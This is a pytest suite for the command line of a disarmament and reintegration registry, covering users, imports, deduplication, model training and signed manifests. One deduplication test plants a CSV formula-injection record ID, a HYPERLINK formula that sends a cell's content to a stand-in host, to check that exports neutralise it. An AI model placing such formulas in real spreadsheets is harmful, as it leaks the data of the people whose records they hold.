"""The `ddr` command line, run as a user would (a subprocess in an empty folder)."""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import create_engine, text

from app.users import throttle


def ddr(folder: Path, *args: str, stdin: str = "", env: dict[str, str] | None = None
        ) -> subprocess.CompletedProcess[str]:
    environment = {k: v for k, v in os.environ.items() if not k.startswith("DDR_")}
    environment.update({"DDR_ENV": "development", "DDR_DATABASE_URL": (folder / ".url").read_text(),
                        "DDR_PASSWORD_HASHING": "cheapest", **(env or {})})
    return subprocess.run([sys.executable, "-m", "app.cli", *args], cwd=folder, input=stdin,
                          capture_output=True, text=True, env=environment, timeout=300)


@pytest.fixture
def folder(tmp_path: Path, database_url: str) -> Path:
    """An empty working folder whose `ddr` uses the test database."""
    work = tmp_path / "work"
    work.mkdir()
    (work / ".url").write_text(database_url)
    return work


def test_init_users_and_demo_data(folder: Path) -> None:
    init = ddr(folder, "init", "--demo-groups")
    assert init.returncode == 0, init.stderr
    key = folder / "ddr_master.key"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600

    created = ddr(folder, "users", "create", "--username", "boss", "--role", "admin",
                  "--password-stdin", stdin="a long password\n")
    assert created.returncode == 0, created.stderr
    assert "created user boss" in created.stdout

    demo = ddr(folder, "demo-data", "--persons", "15", env={"DDR_DEMO_PASSWORD": "demo-pass-123"})
    assert demo.returncode == 0, demo.stderr
    assert "login: officer.trp / demo-pass-123" in demo.stdout
    count = int(demo.stdout.split("registered ")[1].split()[0])
    assert count >= 15
    assert "handed in 16 weapons at TRP" in demo.stdout  # custody at every stage
    assert "login: weapons.depot / demo-pass-123" in demo.stdout
    again = ddr(folder, "demo-data", "--persons", "15", env={"DDR_DEMO_PASSWORD": "demo-pass-123"})
    assert again.returncode == 0, again.stderr
    assert "handed in" not in again.stdout  # nothing added twice

    listed = ddr(folder, "users", "list")
    assert "boss\tadmin\t*" in listed.stdout
    assert "officer.trp\tregistration_officer\tTRP" in listed.stdout


def test_users_create_offers_the_weapons_officer_role(folder: Path) -> None:
    assert ddr(folder, "init").returncode == 0
    refused = ddr(folder, "users", "create", "--username", "x", "--role", "pilot",
                  "--password-stdin", stdin="a long password\n")
    assert "'weapons_officer'" in refused.stderr  # among the roles offered
    created = ddr(folder, "users", "create", "--username", "keeper", "--role",
                  "weapons_officer", "--site", "TRP", "--password-stdin",
                  stdin="a long password\n")
    assert created.returncode == 0, created.stderr
    assert "keeper\tweapons_officer\tTRP" in ddr(folder, "users", "list").stdout
    siteless = ddr(folder, "users", "create", "--username", "k2", "--role", "weapons_officer",
                   "--password-stdin", stdin="a long password\n")
    assert siteless.returncode == 2
    assert "at least one site" in siteless.stderr


@pytest.mark.parametrize(
    ("args", "message"),
    [(["users", "create", "--username", "x", "--role", "pilot", "--password-stdin"], "role"),
     (["users", "create", "--username", "x", "--role", "registration_officer", "--site", "XXX",
       "--password-stdin"], "unknown site"),
     (["demo-data", "--persons", "0"], "--persons")],
    ids=["bad-role", "unknown-site", "no-persons"],
)
def test_bad_input_exits_2_with_a_clear_message(folder: Path, args: list[str], message: str
                                                ) -> None:
    assert ddr(folder, "init").returncode == 0
    result = ddr(folder, *args, stdin="a long password\n")
    assert result.returncode == 2
    assert message in result.stderr
    assert "Traceback" not in result.stderr


def test_wrong_key_is_refused(folder: Path) -> None:
    assert ddr(folder, "init").returncode == 0
    other = "b" * 43 + "="
    result = ddr(folder, "users", "list", env={"DDR_MASTER_KEY": other})
    assert result.returncode == 2
    assert "does not match this database" in result.stderr


def test_production_refuses_default_secret(folder: Path) -> None:
    result = ddr(folder, "serve", env={"DDR_ENV": "production"})
    assert result.returncode == 2
    assert "DDR_SECRET_KEY" in result.stderr


FIXTURE = Path(__file__).parent / "fixtures" / "records_small.csv"


def test_dedupe_file_writes_pairs_and_clusters(folder: Path) -> None:
    result = ddr(folder, "dedupe", str(FIXTURE), "--pairs", "pairs.csv", "--clusters",
                 "clusters.csv")
    assert result.returncode == 0, result.stderr
    assert "records=" in result.stdout
    pairs = (folder / "pairs.csv").read_text(encoding="utf-8").splitlines()
    assert pairs[0] == "record_id_a,record_id_b,score,decision"
    assert len(pairs) > 1
    assert {line.rsplit(",", 1)[1] for line in pairs[1:]} <= {"match", "possible"}
    clusters = (folder / "clusters.csv").read_text(encoding="utf-8").splitlines()
    records = FIXTURE.read_text(encoding="utf-8").splitlines()
    assert len(clusters) == len(records)  # a header and one row per record in each


def test_dedupe_jobs_give_the_same_files(folder: Path) -> None:
    for jobs in ("1", "2"):
        result = ddr(folder, "dedupe", str(FIXTURE), "--pairs", f"pairs{jobs}.csv",
                     "--clusters", f"clusters{jobs}.csv", "--jobs", jobs)
        assert result.returncode == 0, result.stderr
    assert len((folder / "pairs1.csv").read_text(encoding="utf-8").splitlines()) > 1
    for name in ("pairs", "clusters"):
        assert ((folder / f"{name}1.csv").read_bytes()
                == (folder / f"{name}2.csv").read_bytes())
    refused = ddr(folder, "dedupe", str(FIXTURE), "--pairs", "p.csv", "--jobs", "0")
    assert refused.returncode == 2
    assert "--jobs" in refused.stderr


@pytest.mark.parametrize(
    ("content", "message"),
    [(b"record_id,site\nA,TRP\n", "missing column"),
     ("\n".join(["record_id,site,registered_on"]).encode("utf-16"), "UTF-8"),
     (b"", "empty"),
     (None, "duplicate record_id")],
    ids=["missing-column", "not-utf8", "empty", "duplicate-id"],
)
def test_dedupe_malformed_file_exits_2(folder: Path, content: bytes | None, message: str
                                       ) -> None:
    path = folder / "bad.csv"
    if content is None:
        lines = FIXTURE.read_text(encoding="utf-8").splitlines()
        content = "\n".join([*lines, lines[1]]).encode()
    path.write_bytes(content)
    result = ddr(folder, "dedupe", "bad.csv", "--pairs", "pairs.csv")
    assert result.returncode == 2
    assert message in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert not (folder / "pairs.csv").exists()


def test_registry_dedupe_is_safe_to_rerun(folder: Path, database_url: str) -> None:
    from sqlalchemy import create_engine, text

    assert ddr(folder, "init", "--demo-groups").returncode == 0
    assert ddr(folder, "demo-data", "--persons", "60", "--no-users").returncode == 0
    engine = create_engine(database_url)
    with engine.begin() as conn:  # as if registered with no duplicate check (a legacy load)
        assert conn.execute(text("DELETE FROM candidate_pair")).rowcount > 0
    engine.dispose()
    first = ddr(folder, "dedupe", "--registry")
    assert first.returncode == 0, first.stderr
    new_first = int(first.stdout.split("new_pairs=")[1].split()[0])
    assert new_first > 0
    second = ddr(folder, "dedupe", "--registry")
    assert second.returncode == 0, second.stderr
    assert "new_pairs=0" in second.stdout


def test_matching_train_reports_before_and_after(folder: Path, database_url: str) -> None:
    from sqlalchemy import create_engine, text

    assert ddr(folder, "init", "--demo-groups").returncode == 0
    too_few = ddr(folder, "matching", "train")
    assert too_few.returncode == 2
    assert "at least 20 reviewed pairs" in too_few.stderr
    assert ddr(folder, "demo-data", "--persons", "120", "--no-users").returncode == 0
    assert ddr(folder, "dedupe", "--registry").returncode == 0
    engine = create_engine(database_url)
    with engine.begin() as conn:
        ids = conn.execute(text("SELECT id FROM candidate_pair ORDER BY score DESC")).scalars()
        for index, pair_id in enumerate(ids):
            status = "different_persons" if index % 4 == 3 else "same_person"
            conn.execute(text("UPDATE candidate_pair SET status = :s WHERE id = :i"),
                         {"s": status, "i": pair_id})
    engine.dispose()
    trained = ddr(folder, "matching", "train", "--output", "model.json")
    assert trained.returncode == 0, trained.stderr
    assert "before (" in trained.stdout
    assert "after  (" in trained.stdout
    from matching import load_model

    model = load_model(folder / "model.json")
    assert "+reviewed." in model.version
    assert f"stored version {model.version} (not active)" in trained.stdout
    listed = ddr(folder, "matching", "models")
    assert f"  {model.version}  before F1" in listed.stdout  # stored, not active
    unknown = ddr(folder, "matching", "activate", "no-such-version")
    assert unknown.returncode == 2
    assert "model version not found" in unknown.stderr
    activated = ddr(folder, "matching", "activate", model.version)
    assert activated.returncode == 0, activated.stderr
    assert f"* {model.version}  before F1" in ddr(folder, "matching", "models").stdout
    with engine.begin() as conn:
        active = conn.execute(text("SELECT version FROM match_model_version WHERE active"))
        assert active.scalars().all() == [model.version]
    engine.dispose()


def test_import_validates_encrypts_and_is_idempotent(folder: Path) -> None:
    assert ddr(folder, "init").returncode == 0
    header = FIXTURE.read_text(encoding="utf-8").splitlines()[0]
    good = ("R1,TRP,2025-03-01,libyan_combatant,M,1988-03-02,محمد,علي,سالم,الورفلي,,,,LBY,"
            "0912345678,,,")
    bad_phone = "R2,BEN,2025-03-01,libyan_combatant,M,1990,Ali,Omar,,Obeidi,,,,LBY,12,,,"
    bad_site = "R3,XXX,2025-03-01,libyan_combatant,M,1990,Ali,Omar,,Obeidi,,,,LBY,,,,"
    (folder / "in.csv").write_text("\n".join([header, good, bad_phone, bad_site]) + "\n",
                                   encoding="utf-8")
    first = ddr(folder, "import", "in.csv", "--attest-consent")
    assert first.returncode == 0, first.stderr
    assert first.stdout.splitlines()[-1] == (
        "accepted=1 rejected=2 flagged=0 duplicates=0 skipped=0")
    assert "row 3 rejected: phone: not a valid phone number" in first.stderr
    assert "row 4 rejected: site: unknown site code" in first.stderr
    again = ddr(folder, "import", "in.csv", "--attest-consent")
    assert again.stdout.splitlines()[-1] == (
        "accepted=0 rejected=2 flagged=0 duplicates=0 skipped=1")
    latin = ("R4,BEN,2025-04-01,libyan_combatant,M,1988-03-02,Mohamed,Ali,Salem,Elwarfalli,,,,"
             "LBY,+218912345678,,,")
    (folder / "more.csv").write_text("\n".join([header, latin]) + "\n", encoding="utf-8")
    more = ddr(folder, "import", "more.csv", "--attest-consent")
    assert more.stdout.splitlines()[-1] == (
        "accepted=1 rejected=0 flagged=0 duplicates=1 skipped=0")
    assert "row 2 duplicate: match" in more.stderr
    missing = ddr(folder, "import", "nowhere.csv")
    assert missing.returncode == 2
    assert "nowhere.csv: file not found" in missing.stderr


def test_authorisations_from_the_command_line(folder: Path) -> None:
    assert ddr(folder, "init").returncode == 0
    created = ddr(folder, "users", "create", "--username", "cm.children", "--role",
                  "case_manager", "--site", "TRP", "--authorise", "children",
                  "--password-stdin", stdin="a long password\n")
    assert created.returncode == 0, created.stderr
    assert "authorised: children" in created.stdout
    bad = ddr(folder, "users", "create", "--username", "x", "--role", "case_manager", "--site",
              "TRP", "--authorise", "everything", "--password-stdin", stdin="a long password\n")
    assert bad.returncode == 2
    assert "authorisations" in bad.stderr
    assert ddr(folder, "users", "authorise", "cm.children", "children", "gender").returncode == 0
    assert "cm.children\tcase_manager\tTRP\tauthorised: children,gender" in ddr(
        folder, "users", "list").stdout
    assert ddr(folder, "users", "authorise", "cm.children").returncode == 0
    assert "authorised" not in ddr(folder, "users", "list").stdout
    assert ddr(folder, "users", "authorise", "nobody", "gender").returncode == 2


def test_import_opens_cases_and_backfill_gives_steps(folder: Path, database_url: str) -> None:
    from sqlalchemy import create_engine, text

    assert ddr(folder, "init", "--demo-groups").returncode == 0
    imported = ddr(folder, "import", str(FIXTURE), "--attest-consent")
    assert imported.returncode == 0, imported.stderr
    engine = create_engine(database_url)
    with engine.begin() as conn:
        rows = dict(conn.execute(text(
            "SELECT r.category, count(c.id) FROM registration r LEFT JOIN reintegration_case c "
            "ON c.registration_id = r.id GROUP BY r.category")).all())
        imported_count = conn.execute(text("SELECT count(*) FROM registration")).scalar()
        cases = conn.execute(text("SELECT count(*) FROM reintegration_case")).scalar()
        foreign = conn.execute(text(
            "SELECT count(*) FROM registration WHERE category = 'foreign_fighter'")).scalar()
        assert rows.get("foreign_fighter", 0) == foreign  # each opened a return case
        assert cases == imported_count
        assert conn.execute(text("SELECT count(*) FROM reintegration_case WHERE pathway = "
                                 "'return'")).scalar() == foreign
        one = conn.execute(text("SELECT id FROM reintegration_case LIMIT 1")).scalar()
        conn.execute(text("DELETE FROM case_step WHERE case_id = :c"), {"c": one})
    engine.dispose()
    backfilled = ddr(folder, "cases", "backfill")
    assert backfilled.returncode == 0, backfilled.stderr
    assert "cases_given_steps=1 cases_opened=0" in backfilled.stdout
    assert "cases_given_steps=0 cases_opened=0" in ddr(folder, "cases", "backfill").stdout
    pathways = ddr(folder, "cases", "pathways")
    assert '"key": "reintegration"' in pathways.stdout


def test_db_upgrade_builds_missing_keys_and_reindex_rebuilds_them(
    folder: Path, database_url: str
) -> None:
    """After a change of the blocking and name search keys (the migration removes the old
    rows), `ddr db upgrade` builds them where the master key is; `ddr reindex` rebuilds them
    all."""
    from sqlalchemy import create_engine, text

    assert ddr(folder, "init", "--demo-groups").returncode == 0
    assert ddr(folder, "demo-data", "--persons", "12", "--no-users").returncode == 0
    engine = create_engine(database_url)
    count = "SELECT COUNT(DISTINCT registration_id) FROM registration_index WHERE kind = 'name'"
    with engine.begin() as connection:
        registrations = connection.execute(text("SELECT COUNT(*) FROM registration")).scalar()
        assert connection.execute(text(count)).scalar() == registrations
        assert connection.execute(text(count.replace("'name'", "'block'"))).scalar() == (
            registrations)
        connection.execute(text("DELETE FROM registration_index "
                                "WHERE kind IN ('name', 'block')"))
    upgraded = ddr(folder, "db", "upgrade")
    assert upgraded.returncode == 0, upgraded.stderr
    assert f"blocking keys built for {registrations} registrations" in upgraded.stdout
    assert f"name search keys built for {registrations} registrations" in upgraded.stdout
    with engine.connect() as connection:
        assert connection.execute(text(count)).scalar() == registrations
        assert connection.execute(text(count.replace("'name'", "'block'"))).scalar() == (
            registrations)
    again = ddr(folder, "db", "upgrade")
    assert "keys built" not in again.stdout
    rebuilt = ddr(folder, "reindex", "--kind", "name")
    assert rebuilt.returncode == 0, rebuilt.stderr
    assert f"reindexed {registrations} registrations (name)" in rebuilt.stdout
    bad = ddr(folder, "reindex", "--kind", "shoes")
    assert bad.returncode == 2
    assert "--kind must be one of" in bad.stderr
    engine.dispose()


def test_dedupe_writes_formula_like_record_ids_as_text(folder: Path) -> None:
    lines = FIXTURE.read_text(encoding="utf-8").splitlines()
    first_id = lines[1].split(",", 1)[0]
    lines[1] = lines[1].replace(first_id, '=HYPERLINK("http://x.example/?"&B2)', 1)
    lines[1] = '"' + lines[1].split(",", 1)[0].replace('"', '""') + '",' + lines[1].split(
        ",", 1)[1]
    (folder / "in.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = ddr(folder, "dedupe", "in.csv", "--pairs", "pairs.csv", "--clusters", "c.csv")
    assert result.returncode == 0, result.stderr
    for name in ("pairs.csv", "c.csv"):
        text = (folder / name).read_text(encoding="utf-8")
        assert "'=HYPERLINK(" in text
        cells = [c for row in csv.reader(text.splitlines()) for c in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]



def test_users_disable_reset_password_and_unlock(folder: Path, database_url: str) -> None:
    assert ddr(folder, "init").returncode == 0
    for name in ("boss", "keeper"):
        made = ddr(folder, "users", "create", "--username", name, "--role", "admin",
                   "--password-stdin", stdin="a long password\n")
        assert made.returncode == 0, made.stderr
    weak = ddr(folder, "users", "reset-password", "keeper", "--password-stdin",
               stdin="0000000000\n")
    assert weak.returncode == 2
    assert "password" in weak.stderr
    engine = create_engine(database_url)
    with engine.begin() as conn:  # keeper is locked after failed log-ins
        conn.execute(text("INSERT INTO login_throttle (key, failures, window_start, "
                          "last_failure_at, locked_at) VALUES (:k, 10, :t, :t, :t)"),
                     {"k": throttle.account_key("keeper"),
                      "t": "2026-01-01 00:00:00"})
    reset = ddr(folder, "users", "reset-password", "keeper", "--password-stdin",
                stdin="Zawiya-sunrise-41\n")
    assert reset.returncode == 0, reset.stderr
    with engine.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM login_throttle")).scalar() == 0
    disabled = ddr(folder, "users", "disable", "keeper")
    assert disabled.returncode == 0, disabled.stderr
    assert "keeper\tadmin\t* (inactive)" in ddr(folder, "users", "list").stdout
    last = ddr(folder, "users", "disable", "boss")
    assert last.returncode == 2
    assert "last active administrator" in last.stderr
    unknown = ddr(folder, "users", "unlock", "nobody")
    assert (unknown.returncode, "user not found" in unknown.stderr) == (2, True)
    engine.dispose()


def test_returns_public_key_and_verify_manifest(folder: Path) -> None:
    import io

    import pyzipper

    from app.core.crypto import FieldCrypto, decode_master_key, generate_master_key
    from exports.signing import placeholder, sign

    master = generate_master_key()
    crypto = FieldCrypto(decode_master_key(master))
    buffer = io.BytesIO()
    with pyzipper.AESZipFile(buffer, "w", encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(b"a long passphrase")
        archive.writestr("manifest.xlsx", b"rows")
        archive.comment = placeholder(crypto)
    (folder / "manifest.zip").write_bytes(sign(crypto, buffer.getvalue()))
    env = {"DDR_MASTER_KEY": master}
    exported = ddr(folder, "returns", "public-key", "--out", "register.pem", env=env)
    assert exported.returncode == 0, exported.stderr
    assert (folder / "register.pem").read_text().startswith("-----BEGIN PUBLIC KEY-----")
    printed = ddr(folder, "returns", "public-key", env=env)
    assert printed.stdout == (folder / "register.pem").read_text()
    checked = ddr(folder, "returns", "verify-manifest", "manifest.zip", "--public-key",
                  "register.pem")
    assert checked.returncode == 0, checked.stderr
    assert "signature valid" in checked.stdout
    changed = bytearray((folder / "manifest.zip").read_bytes())
    changed[40] ^= 0x01
    (folder / "changed.zip").write_bytes(bytes(changed))
    refused = ddr(folder, "returns", "verify-manifest", "changed.zip", "--public-key",
                  "register.pem")
    assert refused.returncode == 1
    assert "signature does not verify" in refused.stderr
    missing = ddr(folder, "returns", "verify-manifest", "nowhere.zip", "--public-key",
                  "register.pem")
    assert missing.returncode == 2


def test_a_filled_in_template_imports_without_a_mapping(folder: Path) -> None:
    from openpyxl import load_workbook

    assert ddr(folder, "init").returncode == 0
    assert ddr(folder, "import-template", "t.xlsx", "--language", "xx").returncode == 2
    written = ddr(folder, "import-template", "t.xlsx", "--site", "trp")
    assert written.returncode == 0, written.stderr
    book = load_workbook(folder / "t.xlsx")
    sheet = book.active
    assert sheet is not None
    header = [str(cell.value) for cell in sheet[1]]
    row = {"الموقع": "TRP", "الفئة": "مقاتل ليبي", "الجنس": "ذكر",
           "تاريخ الميلاد": "1988-03-02", "الاسم الأول": "محمد", "اسم الأب": "علي",
           "اللقب أو اسم القبيلة": "الورفلي", "الجنسية": "ليبيا", "الموافقة": "نعم"}
    sheet.append([row.get(name) for name in header])
    sheet.append([{"الجنسية": "LBY"}.get(name) for name in header])  # given name, sex missing
    book.save(folder / "filled.xlsx")
    imported = ddr(folder, "import", "filled.xlsx")
    assert imported.returncode == 0, imported.stderr
    assert imported.stdout.splitlines()[-1] == (
        "accepted=1 rejected=1 flagged=0 duplicates=0 skipped=0")
